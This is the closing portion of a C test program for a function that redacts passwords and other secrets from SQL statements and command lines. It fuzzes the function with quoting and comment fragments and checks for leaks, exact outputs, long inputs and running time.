		"'", "\"", "$$", "$a$", "\\", "/*", "*/", "--", "E'", "U&'", "password", "://", "@", "\n", "("
	};
	char		buf[400];
	size_t		len = strlen(input);

	for (int round = 0; round < 200; round++)
	{
		const char *bit = bits[rand() % (sizeof(bits) / sizeof(bits[0]))];
		size_t		at = len ? rand() % len : 0;
		size_t		total;

		if (len + strlen(bit) >= sizeof(buf))
			return;
		memcpy(buf, input, at);
		memcpy(buf + at, bit, strlen(bit));
		memcpy(buf + at + strlen(bit), input + at, len - at);
		total = len + strlen(bit);
		free(redact(buf, rand() % (total + 1), 1 + rand() % 400, rand() % 2, rand() % 2));
	}
}

int
main(void)
{
	char	   *out;
	char	   *big;
	size_t		n;

	for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++)
	{
		const Case *c = &hidden[i];

		out = redact(c->input, strlen(c->input), 4000, true, false);
		ok(strstr(out, SECRET) == NULL && strstr(out, "***") != NULL &&
		   (c->expected == NULL || strcmp(out, c->expected) == 0),
		   "hidden", c->input, out);
		free(out);
		if (!never_leaks(c->input))
			ok(false, "hidden however short", c->input, "");
		torture(c->input);
	}
	for (size_t i = 0; i < sizeof(shown) / sizeof(shown[0]); i++)
	{
		out = redact(shown[i], strlen(shown[i]), 4000, true, false);
		ok(strcmp(out, shown[i]) == 0, "shown", shown[i], out);
		free(out);
		torture(shown[i]);
	}
	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
	{
		out = redact(plain[i].input, strlen(plain[i].input), 4000, false, false);
		ok(strcmp(out, plain[i].expected) == 0, "plain", plain[i].input, out);
		free(out);
		torture(plain[i].input);
	}

	/* standard_conforming_strings = off */
	out = redact("ALTER ROLE bob PASSWORD 'a\\'s3cr3t'", 35, 4000, true, true);
	ok(strcmp(out, "ALTER ROLE bob PASSWORD '***'") == 0, "hidden",
	   "backslash escapes", out);
	free(out);

	/* long: the secret behind much else, and so much that nobody looks */
	for (n = 100 * 1000; n <= 3000 * 1000; n += 2900 * 1000)
	{
		big = malloc(n + 100);
		memset(big, ' ', n);
		memcpy(big, "SELECT 's3cr3t'", 15);
		strcpy(big + n, ", quote_literal(password)");
		out = redact(big, strlen(big), 4000, true, false);
		ok(strncmp(out, "SELECT '***'", 12) == 0, "hidden", "a long statement", out);
		free(out);
		free(big);
	}

	/* time must not grow with the square of the length */
	n = 1000 * 1000;
	big = malloc(n);
	for (int kind = 0; kind < 9; kind++)
	{
		static const char *const units[] = {"://", "$a", "a$", "/*", "'$x$", "password ", "-u -p ", "-echo ", "sqlplus -"};

		for (size_t i = 0; i < n; i++)
			big[i] = units[kind][i % strlen(units[kind])];
		out = redact(big, n, 4000, true, false);
		free(out);
		out = redact(big, n, 4000, false, false);
		ok(true, "in time", units[kind], "");
		free(out);
	}
	free(big);

	printf("1..%d\n", tests);
	return 0;
}
